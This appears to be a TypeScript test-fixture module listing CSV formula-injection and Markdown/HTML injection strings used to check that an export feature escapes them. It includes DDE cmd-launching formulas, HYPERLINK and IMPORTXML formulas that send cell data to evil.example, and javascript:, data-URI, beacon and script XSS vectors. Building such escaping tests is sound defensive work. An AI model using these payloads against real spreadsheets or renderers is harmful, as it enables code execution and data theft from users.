/**
 * @module
 * Hostile text for the export tests, modelled on public payload lists (written here, not copied):
 * - CSV/formula injection: OWASP's CSV Injection page (https://owasp.org/www-community/attacks/CSV_Injection,
 *   the DDE `=cmd|' /C calc'!A0` family and its guidance on separators and quotes) and the list OWASP's page
 *   is quoted with in payloadbox/csv-injection-payloads (README.md); ASVS 5.0 V1.2.10 (`=`, `+`, `-`, `@`,
 *   tab, null as first character).
 * - Markdown: the link, image and HTML vectors of JakobTheDev/information-security (Payloads/md/XSS.md) and
 *   the CVE-2014-5144 write-up those lists cite (javascript: links, `![x](…)` beacons, `<img onerror>`,
 *   entity-encoded schemes), plus CommonMark's own constructs (autolinks, emphasis, headings, tables).
 */

/** Cells a spreadsheet would run as a formula (or split into one) if they were not neutralised. */
export const CSV_PAYLOADS: string[] = [
  "=cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A1",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "ok;=1+1",
  "ok,=1+1",
  "ok\t@SUM(A1:A9)",
  "parse\"breaker ;,=cmd|' /C notepad'!A1",
  "line one\n=cmd|' /C calc'!A0",
  "--1-cmd|' /C calc'!A0",
];

/** Text that would be a link, image, HTML, emphasis, heading or a broken table row if it were not escaped. */
export const MARKDOWN_PAYLOADS: string[] = [
  "[Basic](javascript:alert('Basic'))",
  "[Case](JaVaScRiPt:alert('x'))",
  "![beacon](https://evil.example/b.png)",
  '![x]("onerror="alert(1))',
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
  "[ref]: https://evil.example/",
  "<https://evil.example/autolink>",
  "<mallory@evil.example>",
  "https://evil.example/bare",
  "www.evil.example/bare",
  '<img src="x" onerror="alert(1)">',
  "<script>alert(1)</script>",
  "**bold** _em_ ~~strike~~ `code`",
  "# Heading",
  "> quoted",
  "- list item",
  "1. ordered",
  "a | b | c",
  "&lt;b&gt; entity",
];
